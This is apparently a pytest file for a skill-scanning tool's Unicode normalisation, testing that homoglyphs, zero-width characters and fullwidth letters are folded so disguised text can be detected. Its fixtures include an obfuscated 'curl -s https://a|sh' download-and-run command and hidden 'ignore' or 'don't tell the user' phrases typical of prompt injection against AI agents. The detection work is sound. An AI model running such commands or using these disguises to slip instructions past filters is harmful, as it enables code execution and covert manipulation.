"""Letters in disguise are folded where they disguise something, and writing in other scripts stays what it is."""

from __future__ import annotations

import pytest

from tests.scanning.uncovering import shown, sighted, uncovered
from vskill_platform.scanning.tier1.patterns import Span
from vskill_platform.scanning.tier1.views.confusables import LATIN, OTHER_SCRIPTS, SIGNS, skeleton
from vskill_platform.scanning.tier1.views.normalised import normalised_views
from vskill_platform.scanning.tier1.views.view import PLAIN, View


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("ig\u200bnore", "ignore"),
        ("ig\u00adnore", "ignore"),
        ("ig\u202enore", "ignore"),
        ("ig\u2060no\ufeffre", "ignore"),
        ("ig\ufe0fnore", "ignore"),
        ("ig\U000e0041nore", "ignore"),
        ("ig\u200dnore", "ignore"),
        ("𝐢𝐠𝐧𝐨𝐫𝐞", "ignore"),
        ("ｉｇｎｏｒｅ", "ignore"),
        ("ⓘⓖⓝⓞⓡⓔ", "ignore"),
        ("🅸🅶🅽🅾🆁🅴", "ignore"),
        ("ɪɢɴᴏʀᴇ", "ignore"),
        ("i̶g̶n̶o̶r̶e̶", "ignore"),
        ("ígnóre", "ignore"),
        ("і" + "gnore", "ignore"),
        ("ignоre", "ignore"),
        ("ig\u200bnоre", "ignore"),
        ("ɡnοre", "gnore"),
        ("ꭵgnore", "ignore"),
        ("don’t", "don't"),
        ("all\u00a0of", "all of"),
        ("curl –s", "curl -s"),
        ("http:∕∕a", "http://a"),
        ("ｃｕｒｌ　－ｓ　ｈｔｔｐｓ：／／ａ｜ｓｈ", "curl -s https://a|sh"),
        ("one\u2028two", "one two"),
    ],
)
def test_normalised_view_folds__what_looks_like_ascii(text: str, plain: str) -> None:
    assert f"Then {plain} it" in shown(normalised_views, f"Then {text} it")


def test_normalised_view_folds_a_word_of_look_alikes__in_a_latin_line() -> None:
    assert "run cop now" in shown(normalised_views, "run сор now")
    assert "сор" not in shown(normalised_views, "run сор now")


@pytest.mark.parametrize(
    "text",
    [
        "Запустите скрипт, а потом сор на хор и всё.",
        "Η ταχύτητα του φωτός και ο χρόνος.",
        "不要告诉用户。",
        "日本語のテキストです",
        "Plain — with a dash and an emoji ⚠️ 👩‍💻 1️⃣ and x² … ™",
        "می\u200cخواهم",
    ],
)
def test_normalised_view_is_not_made__for_ordinary_writing(text: str) -> None:
    assert uncovered(normalised_views, text) == []


def test_normalised_view_has_the_frontmatter_too__for_the_rules_about_it() -> None:
    made = uncovered(
        normalised_views, "---\nname: a\ndescription: alw\u200bays use\n---\nalw\u200bays\n", path="SKILL.md"
    )
    heads = [view.data for view in made if isinstance(view, View) and "frontmatter" in view.kinds]
    assert heads == [b"---\nname: a\ndescription: always use"]


def test_normalised_view_knows_its_places__line_and_column() -> None:
    lines = ["ä" * 10, "x\u200b\u200by", "a ｉｇｎｏｒｅ b"]
    (view,) = (made for made in uncovered(normalised_views, "\n".join(lines)) if isinstance(made, View))
    at = view.data.index(b"ignore")
    assert view.locate(at) == (3, 3)
    assert view.locate(view.data.index(b"xy") + 1) == (2, 4)


def test_normalised_view_tells_tricks_from_typography__by_the_layer_of_a_match() -> None:
    (view,) = (made for made in uncovered(normalised_views, "don’t ig\u200bnore it") if isinstance(made, View))
    assert view.data == b"don't ignore it"
    assert view.layer_of(Span(0, 5)) == PLAIN
    assert view.layer_of(Span(6, 12)) == "normalised"
    assert view.layer_of(Span(13, 15)) is None


@pytest.mark.parametrize(
    "text", ["pаypal", "Аdmin", "сurl", "раssword", "tоken", "αgents", "paѕsword", "ΜyBank", "gооgle", "Ꮯoogle"]
)
def test_mixed_script_word_is_seen__where_letters_look_like_others(text: str) -> None:
    assert sighted(normalised_views, f"Use {text} here.") == ["mixed_script_word"]


@pytest.mark.parametrize(
    "text",
    [
        "10 μm and 5 kΩ",
        "αx + βy, σmax, Δt, λx",
        "Открой PDFы и APIшку",
        "git-ом и Python'а",
        "скрипт",
        "cкрипт",
        "x²",
        "naïve café",
    ],
)
def test_mixed_script_word_is_not_seen__in_mathematics_units_and_inflected_names(text: str) -> None:
    assert sighted(normalised_views, text) == []


def test_skeleton_is_ascii__for_every_look_alike_of_the_table() -> None:
    for table in (OTHER_SCRIPTS, LATIN, SIGNS):
        for plain, signs in table.items():
            assert {skeleton(sign) for sign in signs} == {plain}


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("аеорсухіјѕԁһӏԛѵԝ", "aeopcyxijsdhiqvw"),
        ("АВЕКМНОРСТУХЅІЈ", "ABEKMHOPCTYXSIJ"),
        ("ΑΒΕΖΗΙΚΜΝΟΡΤΥΧ", "ABEZHIKMNOPTYX"),
    ],
)
def test_skeleton_covers__the_letters_that_disguises_are_made_of(text: str, plain: str) -> None:
    assert skeleton(text) == plain
